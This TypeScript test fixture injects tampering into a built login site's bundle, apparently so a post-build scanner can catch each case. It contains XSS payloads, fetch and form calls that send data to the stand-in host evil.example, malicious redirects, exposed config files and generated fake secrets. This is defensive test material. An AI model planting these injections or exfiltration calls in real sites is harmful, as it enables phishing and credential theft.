/** What somebody may put into a bundle after its build, one thing at a time. */

import { randomBytes } from 'node:crypto';
import { cpSync, existsSync, globSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { generateMnemonic } from '@scure/bip39';
import { wordlist } from '@scure/bip39/wordlists/english.js';
import type { Site } from '../../../src/domain/site/site.ts';

export interface Plant {
  readonly name: string;
  /** Changes the bundle. */
  readonly plant: (bundle: Bundle) => void;
}

/** A folder with the pages of a site. */
export class Bundle {
  readonly folder: string;
  readonly site: Site;

  constructor(folder: string, site: Site) {
    this.folder = folder;
    this.site = site;
  }

  /** A page in the last language of the site. */
  page(path = 'login'): string {
    return join(this.site.languages.at(-1) ?? '', path, 'index.html');
  }

  read(name: string): string {
    return readFileSync(join(this.folder, name), 'utf8');
  }

  write(name: string, content: string | Buffer): void {
    mkdirSync(dirname(join(this.folder, name)), { recursive: true });
    writeFileSync(join(this.folder, name), content);
  }

  /** The first of the files that fit. */
  one(pattern: string): string {
    const [found] = globSync(pattern, { cwd: this.folder }).sort();
    if (found === undefined) throw new Error(`No file of the bundle fits ${pattern}.`);
    return found;
  }

  change(name: string, edit: (text: string) => string): void {
    const before = this.read(name);
    const after = edit(before);
    if (after === before) throw new Error(`${name} was not changed.`);
    this.write(name, after);
  }
}

const inBody = (name: string, element: string): Plant => ({
  name,
  plant: (bundle) => bundle.change(bundle.page(), (html) => html.replace('</body>', () => `${element}</body>`)),
});

const inHead = (name: string, element: string): Plant => ({
  name,
  plant: (bundle) => bundle.change(bundle.page(), (html) => html.replace('</head>', () => `${element}</head>`)),
});

/** At the end of a script of the build. */
const inScript = (name: string, text: string): Plant => ({
  name,
  plant: (bundle) => bundle.change(bundle.one('_astro/*.js'), (script) => `${script}\n${text}\n`),
});

const file = (name: string, path: string, content: string | Buffer): Plant => ({
  name,
  plant: (bundle) => bundle.write(path, content),
});

const page = (body: string) =>
  `<!doctype html><html lang="en"><head><title>Page</title></head><body>${body}</body></html>`;

const scripts: readonly Plant[] = [
  file('a script at the root', 'helper.js', 'document.title="x"'),
  file('a service worker', 'sw.js', 'self.addEventListener("fetch",()=>{})'),
  file('a module at the root', 'app.mjs', 'export {}'),
  file('a script in a folder of its own', 'assets/a.js', 'export {}'),
  {
    name: 'a script at the root, loaded by a page',
    plant: (bundle) => {
      bundle.write('helper.js', 'addEventListener("input",()=>{})');
      bundle.change(bundle.page(), (html) => html.replace('</head>', '<script src=/helper.js></script></head>'));
    },
  },
  {
    name: 'a script among those of the build, loaded by one page',
    plant: (bundle) => {
      bundle.write('_astro/helper.a1B2c3D4.js', 'addEventListener("input",()=>{})');
      const element = '<script type="module" src="/_astro/helper.a1B2c3D4.js"></script>';
      bundle.change(bundle.page(), (html) => html.replace('</head>', `${element}</head>`));
    },
  },
  file('another script for old browsers', 'too-old.js', 'document.title="x"'),
  file('a home screen that opens another page', 'site.webmanifest', '{"name":"Gatehouse","start_url":"/en/verify"}'),
  inScript('a call to a foreign host', 'fetch("https://evil.example/c",{method:"POST"})'),
  inScript('a socket to a foreign host', 'new WebSocket("wss://evil.example/s")'),
  inScript('a call to a public number', 'fetch("http://203.0.113.9/c")'),
  inScript('a call to a number of IPv6', 'fetch("https://[2001:db8::1]/c")'),
  inScript('a source map', '//# sourceMappingURL=a.js.map'),
];

const html: readonly Plant[] = [
  inBody('a handler', '<p onclick="alert(1)">x</p>'),
  inBody('a handler without quotes', '<svg/onload=alert(1)>'),
  inBody('a handler in capitals', '<img alt="" src="/share.png" ONERROR="alert(1)">'),
  inBody('a javascript: address', '<a href="javascript:alert(1)">x</a>'),
  inBody('a hidden javascript: address', '<a href=" java&#10;script&colon;alert(1)">x</a>'),
  inBody('a page as an address', '<a href="data:text/html,<p>x">x</a>'),
  inBody('a link to a foreign host', '<a href="https://evil.example/login">Log in</a>'),
  inBody('a link to a foreign host without a scheme', '<a href="//evil.example/login">Log in</a>'),
  inBody('a link to a foreign host with backslashes', '<a href="\\\\evil.example/login">Log in</a>'),
  inBody('a link without encryption', '<a href="http://gatehouse.example/login">Log in</a>'),
  inBody(
    'a link to a host that only looks like ours',
    '<a href="https://gatehouse.example.evil.test/login">Log in</a>',
  ),
  inBody('a ping', '<a href="/en" ping="https://evil.example/p">x</a>'),
  inHead('a connection in advance', '<link rel="preconnect" href="https://evil.example">'),
  inHead('a name looked up in advance', '<link rel="dns-prefetch" href="//evil.example">'),
  inHead('a foreign script', '<script src="https://evil.example/a.js"></script>'),
  inHead('a script of one page', '<script>document.title="x"</script>'),
  inHead('a script as text', '<script src="data:text/javascript,alert(1)"></script>'),
  inHead('a foreign style sheet', '<link rel="stylesheet" href="https://evil.example/a.css">'),
  inHead('a base elsewhere', '<base href="https://evil.example/">'),
  inHead('a way to elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  inHead('a policy of its own', '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
  inHead('a foreign background', '<style>p{background:url(https://evil.example/a.png)}</style>'),
  inHead('a foreign picture of a set', '<style>p{background:image-set("//evil.example/a.png" 1x)}</style>'),
  inBody('a foreign picture in a style', '<p style="background:url(//evil.example/a.png)">x</p>'),
  inBody(
    'the second picture of a list',
    '<img alt="" src="/share.png" srcset="/share.png 1x, https://evil.example/a.png 2x">',
  ),
  inBody('a frame', '<iframe src="/en/login"></iframe>'),
  inBody('a frame with a page in it', '<iframe srcdoc="<p>x"></iframe>'),
  inBody('an embedded file', '<embed src="/share.png">'),
  inBody('an object', '<object data="/share.png"></object>'),
  inBody('a form to elsewhere', '<form method="post" action="https://evil.example/"><input name="password"></form>'),
  inBody('a second form', '<form method="post" action="/collect"><input name="password" type="password"></form>'),
  inBody('a comment', '<!-- the account of the deploy is root -->'),
  {
    name: 'all scripts taken out',
    plant: (bundle) =>
      bundle.change(bundle.page(), (text) => text.replace(/<script\b[\s\S]*?<\/script>|<astro-island\b[^>]*>/g, '')),
  },
  {
    name: 'the island taken out',
    plant: (bundle) =>
      bundle.change(bundle.page(), (text) => text.replace(/<astro-island\b[\s\S]*?<\/astro-island>/g, '')),
  },
  {
    name: 'the page of another language',
    plant: (bundle) =>
      bundle.write(bundle.page(), bundle.read(join(bundle.site.languages[0] ?? '', 'login/index.html'))),
  },
  {
    name: 'a page that search engines are asked to leave out',
    plant: (bundle) =>
      bundle.change(bundle.page(), (text) => text.replace('<head>', '<head><meta name="robots" content="noindex">')),
  },
  file('a page of no route', 'en/verify-wallet/index.html', page('<p>Type your words')),
  file('a page at the root', 'harbor.html', page('<p>Log in')),
  file('the verification of a search engine', 'google0123456789abcdef.html', 'google-site-verification: x'),
];

const png = (bundle: Bundle) => readFileSync(join(bundle.folder, 'share.png'));

const files: readonly Plant[] = [
  file('settings', '.env', 'A=1'),
  file('a folder of git', '.git/config', '[core]'),
  file('a dump of a database', 'backup.sql', 'INSERT INTO accounts VALUES (1)'),
  file('a dump with an ending of texts', 'backup.txt', 'INSERT INTO accounts VALUES (1)'),
  file('notes among the known places', '.well-known/notes.txt', 'ask Ann'),
  file('an archive', 'site.zip', 'PK'),
  file('a program', 'admin.php', '<?php'),
  file('rules for search engines', 'robots.txt', 'User-agent: *\nDisallow: /'),
  file('headers that allow frames', '_headers', '/*\n  X-Frame-Options: ALLOWALL\n'),
  file('headers without a policy', '_headers', "/*\n  Content-Security-Policy: script-src * 'unsafe-inline'\n"),
  file('a cookie for everybody', '_headers', '/*\n  Set-Cookie: a=b\n'),
  file('a redirect to elsewhere', '_redirects', '/en/login https://evil.example/login 302\n'),
  file('pages of another host', '_redirects', '/* https://evil.example/:splat 200\n'),
  file('what pages read of an operator, torn', 'status.json', '{"signUp":'),
  file('a picture with a script', 'art.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  {
    name: 'a handler in the icon',
    plant: (bundle) => bundle.change('favicon.svg', (text) => text.replace('<svg', '<svg onload="alert(1)"')),
  },
  {
    name: 'a page behind a picture',
    plant: (bundle) => bundle.write('share.png', Buffer.concat([png(bundle), Buffer.from(page('<p>x'))])),
  },
  file('a page as a picture', 'share.png', page('<p>x')),
  {
    name: 'another picture',
    plant: (bundle) => bundle.write('icon-192.png', png(bundle)),
  },
  {
    name: 'the texts of a language in English',
    plant: (bundle) => {
      const language = bundle.site.languages.find((code) => !code.startsWith('en')) ?? '';
      const english = bundle.site.languages.find((code) => code.startsWith('en')) ?? '';
      cpSync(join(bundle.folder, `locales/${english}`), join(bundle.folder, `locales/${language}`), {
        recursive: true,
      });
    },
  },
  {
    name: 'a text that was changed',
    plant: (bundle) => {
      const name = `locales/${bundle.site.languages[0]}/global.json`;
      bundle.write(name, JSON.stringify({ ...JSON.parse(bundle.read(name)), headerLogin: 'Send us your password' }));
    },
  },
  {
    name: 'a text with a foreign address',
    plant: (bundle) => {
      const name = `locales/${bundle.site.languages[0]}/global.json`;
      bundle.write(name, JSON.stringify({ ...JSON.parse(bundle.read(name)), extra: 'https://evil.example/' }));
    },
  },
  {
    name: 'a rule that hides the login',
    plant: (bundle) =>
      bundle.write('compliance/login-entry-fe.json', '[{"element":"loginLink","action":"hide","siteId":"ALL"}]'),
  },
  {
    name: 'a page that is missing',
    plant: (bundle) => rmSync(join(bundle.folder, bundle.page('sign-up'))),
  },
  {
    name: 'a script that is missing',
    plant: (bundle) => {
      const name = /component-url="\/(_astro\/[^"]+)"/.exec(bundle.read(bundle.page()))?.[1];
      if (name === undefined || !existsSync(join(bundle.folder, name))) throw new Error('There is no island.');
      rmSync(join(bundle.folder, name));
    },
  },
];

// Put together here, so that no scanner takes this file for a leak.
const hex = (bytes: number) => randomBytes(bytes).toString('hex');
const letters = (length: number) =>
  `a1B${randomBytes(length)
    .toString('base64')
    .replace(/[^A-Za-z\d]/g, '')}`.slice(0, length);
const base58 = 'KwDiBf89QgGbjEhKnhXJuH7LrciVrZi3qYjgd9M7rFU73sVHnoWn';

const secrets: readonly Plant[] = [
  inScript('a key of 32 digits', `API_KEY=${hex(16)}`),
  inScript('a secret of 64 digits', `{client_secret:"${hex(32)}"}`),
  inScript('a private key of a chain', `{"privateKey":"0x${hex(32)}"}`),
  inScript('a key of a monitor', `DD_API_KEY='${hex(16)}'`),
  inScript('a token of digits', `const authToken = "${hex(20)}"`),
  inScript('a password of a setting', `DB_PASSWORD=${'Tr0ub'}4dor&3`),
  inScript('a password in code', `{user:"deploy",password:"${'Summer'}2026!"}`),
  inScript('a password in JSON', `{"smtp_password": "${'hunter'}2Hunter"}`),
  inScript('a key of PGP', `-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n${letters(60)}`),
  inScript('a key of PuTTY', `PuTTY-User-Key-File-3: ssh-ed25519`),
  inScript('a key of age', `AGE-SECRET-KEY-1${letters(58).toUpperCase()}`),
  inScript('a key of SSH', `-----BEGIN OPENSSH PRIVATE KEY-----\n${letters(64)}`),
  inScript('a secret of a sign-in', `GOCSPX-${letters(28)}`),
  inScript('a token of an error collector', `sntrys_${letters(40)}`),
  inScript('a key of mails', `key-${hex(16)}`),
  inScript('a login in a header', `{Authorization:"Basic ${Buffer.from('deploy:hunter2').toString('base64')}"}`),
  inScript('a token in a header', `{Authorization:"Bearer ${letters(40)}"}`),
  inScript('the words of a wallet', `"${generateMnemonic(wordlist)}"`),
  inScript('24 words of a wallet', `const words = "${generateMnemonic(wordlist, 256)}";`),
  inScript('the words of a wallet in a list', JSON.stringify(generateMnemonic(wordlist).split(' '))),
  file(
    'the words of a wallet in a picture',
    'favicon.svg',
    `<svg xmlns="http://www.w3.org/2000/svg"><!-- ${generateMnemonic(wordlist)} --></svg>`,
  ),
  inScript('the key of a wallet', `"${base58}"`),
  inScript(
    'an extended key of a wallet',
    `"xprv${letters(140)
      .replace(/[0OIl]/g, 'x')
      .slice(0, 107)}"`,
  ),
  inScript('the token of a bot', `"${'123456789'}:AA${letters(33)}"`),
  inScript('a token of a code host', `"ghp_${letters(36)}"`),
  inScript('a key of a cloud', `"AKIA${letters(30).toUpperCase().slice(0, 16)}"`),
  inScript('the address of a database', '"postgres://admin:pw@db.example:5432/accounts"'),
  inScript('a machine by its name alone', 'fetch("http://ledger:8080/health")'),
  inScript('a machine by a local number of IPv6', 'fetch("http://[fd12:3456:789a::1]/health")'),
  inScript('a machine of the office', 'fetch("https://ledger.corp/health")'),
  inScript('a host that is not public yet', 'fetch("https://staging.gatehouse.example/api")'),
  inBody('a secret in a page', `<p data-key="GOCSPX-${letters(28)}">`),
  file('a secret in a text', 'llms.txt', `sntrys_${letters(40)}`),
];

export const plants: readonly Plant[] = [...scripts, ...html, ...files, ...secrets];
